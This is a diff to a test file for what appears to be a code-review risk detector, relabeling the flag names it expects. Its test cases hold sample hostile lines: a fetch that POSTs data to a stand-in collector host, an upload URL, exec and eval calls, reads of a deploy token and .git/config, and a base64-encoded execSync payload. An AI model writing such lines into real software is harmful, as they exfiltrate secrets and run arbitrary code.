@@ -21,22 +21,34 @@ const withLine = (line: string) =>
 
 describe('riskFlags', () => {
   it.each([
-    ['a new process', "require('child_process').exec(row.cmd);", 'process'],
+    ['a new process', "require('child_process').exec(row.cmd);", 'a new process'],
     [
       'a new network call',
       "await fetch('https://collector.example.net/x', { method: 'POST', body: row });",
-      'network',
+      'a new network call',
     ],
-    ['a URL that leaves the machine', "const sink = 'https://203.0.113.9/upload';", 'network'],
-    ['code run from a string', 'eval(row.script);', 'code from a string'],
-    ['a read of the environment', 'const token = process.env.DEPLOY_TOKEN;', 'credentials'],
-    ['a read of git credentials', "readFileSync('.git/config', 'utf8');", 'credentials'],
+    ['a URL that leaves the machine', "const sink = 'https://203.0.113.9/upload';", 'a new network call'],
+    ['code run from a string', 'eval(row.script);', 'code run from a string'],
+    [
+      'a read of the environment',
+      'const token = process.env.DEPLOY_TOKEN;',
+      'a read of credentials or the environment',
+    ],
+    [
+      'a read of git credentials',
+      "readFileSync('.git/config', 'utf8');",
+      'a read of credentials or the environment',
+    ],
     [
       'a base64 blob',
       "const blob = 'ZXhwb3J0IGNvbnN0IHg9cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp';",
-      'obfuscation',
+      'an obfuscated string',
     ],
-    ['characters built from codes', 'const word = String.fromCharCode(101, 118, 97, 108);', 'obfuscation'],
+    [
+      'characters built from codes',
+      'const word = String.fromCharCode(101, 118, 97, 108);',
+      'an obfuscated string',
+    ],
   ])('flags %s', (_what, line, kind) => {
     const flags = riskFlags([patch(withLine(line))]);
     expect(flags).toContainEqual({ path: 'src/server.js', line: 5, kind, text: line });
